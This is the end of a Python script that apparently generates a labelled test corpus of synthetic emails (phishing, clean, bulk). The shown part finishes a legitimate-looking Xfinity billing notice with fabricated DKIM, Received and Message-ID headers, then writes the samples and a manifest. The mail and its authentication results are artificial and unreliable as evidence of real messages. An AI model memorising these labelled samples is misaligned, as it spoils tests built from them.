<p><a href="https://customer.xfinity.com/#/billing" style="background:#5a23b9;color:#ffffff;padding:10px 22px;border-radius:4px;text-decoration:none">View bill</a></p>
<p style="font-size:12px;color:#6b6b70">This email was sent to robert.haines@comcast.net. Please do not reply. <a href="https://www.xfinity.com/privacy">Privacy policy</a> &middot; <a href="https://www.xfinity.com/support">Help &amp; support</a><br>
&copy; 2025 Comcast. All rights reserved. Comcast, 1701 JFK Blvd., Philadelphia, PA 19103</p>
</td></tr></table></body></html>
"""
    head = f"""{dkim(n, "alerts.comcast.net", "20230814", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")}
Received: from po-ecomm-{num(n, 'ec', 10, 99)}.cable.comcast.com ([10.{num(n, 'i1', 1, 250)}.{num(n, 'i2', 1, 250)}.{num(n, 'i3', 1, 250)}])
\tby alerts-omta-{num(n, 'om', 1, 9)}.comcast.net with ESMTP id {an(n, 'oid', 14)}; {fmt(t - timedelta(seconds=1))}
From: {who("Xfinity", sender)}
To: {rcpt}
Subject: Your Xfinity bill is ready
Date: {fmt(t - timedelta(seconds=2), "America/New_York")}
Message-ID: <{hx(n, 'mid', 24)}.{num(n, 'mid2', 1000, 9999)}@alerts.comcast.net>
MIME-Version: 1.0"""
    add(Msg(n, "bulk",
            "Genuine Xfinity 'your bill is ready' notice to a comcast.net customer (autopay on, nothing to do): "
            "alerts.comcast.net sender with DKIM/DMARC pass, links to customer.xfinity.com and xfinity.com",
            rcpt, t, "96.114.154.166", "alerts-omta-3.comcast.net", "alerts-omta-3.comcast.net", sender, "pass",
            [("alerts.comcast.net", "20230814", "pass")], "pass", head, alt(n, html2text(html), html, "java"),
            dmarc_p="reject", score=0))


# ===========================================================================


def main() -> None:
    builders = [fn for name, fn in list(globals().items()) if name.startswith(("p_", "c_", "k_")) and callable(fn)]
    for build in builders:
        build()
    names = [m.name for m in SAMPLES]
    assert len(names) == len(set(names)), "duplicate sample names"
    lines = []
    for m in SAMPLES:
        assert m.name.startswith("b9-")
        path = MAIL / m.category / f"{m.name}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(render(m))
        lines.append(f"samples/mail/{m.category}/{m.name}.eml | {m.category} | {m.desc}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts = {c: sum(1 for m in SAMPLES if m.category == c) for c in ("phishing", "clean", "bulk")}
    print(f"wrote {len(SAMPLES)} samples: {counts}; manifest {MANIFEST.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
